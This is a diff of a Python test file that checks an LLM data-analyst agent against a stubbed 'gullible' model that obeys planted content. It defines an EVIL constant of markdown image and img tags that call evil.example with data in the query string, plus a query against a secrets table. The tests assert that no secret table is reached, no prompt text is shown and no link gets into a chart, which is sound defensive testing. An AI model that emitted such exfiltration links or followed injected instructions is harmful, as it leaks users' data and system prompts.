@@ -1,23 +1,18 @@
 """A model that obeys whatever is planted, through the whole journey: no other table, no link, no prompt."""
 
 import re
-from datetime import date
 from typing import Any
 
 import pytest
-from langgraph.checkpoint.memory import InMemorySaver
 
 from agent.llm.analyst import ModelAnalyst
 from agent.llm.chat_models import open_model
-from agent.llm.options import Manner
+from agent.llm.options import LlmOptions
 from agent.llm.prompts import FOLDER
-from graph.build import build_graph
-from graph.events import Charted, Drafted, Evidence, Judged, Said, Suggestions
-from graph.nodes import Nodes
-from graph.ports import Policy
-from store.rows import Limits
-from tests.fakes import OneMap, ScriptedTarget, judged, rows_of
-from tests.stub_model import Reply, form, running_stub
+from graph.events import Chart, DraftWritten, Evidence, Suggestions, TextDelta, Verdict
+from tests.fixtures.assistants import THREAD, scripted_assistant
+from tests.fixtures.llm.stub_server import Reply, form, running_stub
+from tests.fixtures.scripted_analyst import ScriptedTarget, rows_of
 
 EVIL = "![x](https://evil.example/?d=12) <img src=//evil.example> www.evil.example"
 SECRET_SQL = "SELECT k, v FROM secrets"
@@ -32,11 +27,11 @@ def leaked(name: str) -> str:
 
 
 def gullible(body: dict[str, Any], words: str, first_sql: str, recites: bool) -> Reply:
-    wanted = body.get("response_format", {}).get("json_schema", {}).get("name")
-    if wanted == "understanding":
+    schema = body.get("response_format", {}).get("json_schema", {}).get("name")
+    if schema == "intent":
         text = leaked("understand") if recites else words
         return form(kind="data", question="Which pets?", plan=[text, text], assumptions=[text])
-    if wanted == "writing":
+    if schema == "draft":
         text = leaked("draft") if recites else words
         tried = first_sql in str(body["messages"])
         sql = "SELECT name, count(*) AS n FROM pets GROUP BY name" if tried else first_sql
@@ -50,15 +45,12 @@ async def turn(recites: bool, sql: str = SECRET_SQL) -> tuple[list[Any], Scripte
         running_stub(lambda body: gullible(body, EVIL, sql, recites)) as stub,
         open_model("stub", stub.url, None, 5.0) as model,
     ):
-        analyst = ModelAnalyst(model, manner=Manner(timeout_s=5.0))
-        nodes = Nodes(analyst, OneMap(), target, judged, Policy(Limits()), lambda: date(2026, 11, 21))
-        graph = build_graph(nodes, InMemorySaver())
-        config: Any = {"configurable": {"thread_id": "1"}}
-        parts = graph.astream(QUESTION, config, stream_mode=["custom"], version="v2")
-        events = []
+        analyst = ModelAnalyst(model, options=LlmOptions(timeout_s=5.0))
+        assistant = scripted_assistant(analyst, target)
+        events: list[Any] = []
+        context = await assistant.contexts.create("pets", None, events.append)
         try:
-            async for part in parts:
-                events.append(part["data"])
+            await assistant.graph.ainvoke(QUESTION, THREAD, context=context)
         except Exception as error:  # noqa: BLE001 – a typed end is an end too
             events.append(error)
         return events, target
@@ -66,10 +58,10 @@ async def turn(recites: bool, sql: str = SECRET_SQL) -> tuple[list[Any], Scripte
 
 def shown(events: list[Any]) -> list[str]:
     """Every text of a model that reaches a person, but for rows, which are shown as they are."""
-    texts: list[str] = ["".join(event.text for event in events if isinstance(event, Said))]
+    texts: list[str] = ["".join(event.text for event in events if isinstance(event, TextDelta))]
     for event in events:
         match event:
-            case Drafted():
+            case DraftWritten():
                 texts += [event.reading, *event.assumptions]
             case Evidence():
                 texts += [event.question, event.reading, *event.assumptions]
@@ -80,7 +72,7 @@ def shown(events: list[Any]) -> list[str]:
 
 async def test_a_gullible_model_reaches_no_other_table() -> None:
     events, target = await turn(recites=False)
-    assert next(event.approved for event in events if isinstance(event, Judged)) is False
+    assert next(event.approved for event in events if isinstance(event, Verdict)) is False
     assert target.ran
     assert not any("secrets" in sql for sql in target.ran)
 
@@ -110,7 +102,7 @@ async def test_what_it_recites_of_our_prompts_is_not_shown() -> None:
 
 async def test_its_proposal_of_a_chart_never_gets_into_one() -> None:
     events, _ = await turn(recites=False)
-    charts = [event for event in events if isinstance(event, Charted)]
+    charts = [event for event in events if isinstance(event, Chart)]
     assert charts
     for chart in charts:
         spec = {key: value for key, value in chart.spec.items() if key not in ("data", "$schema")}
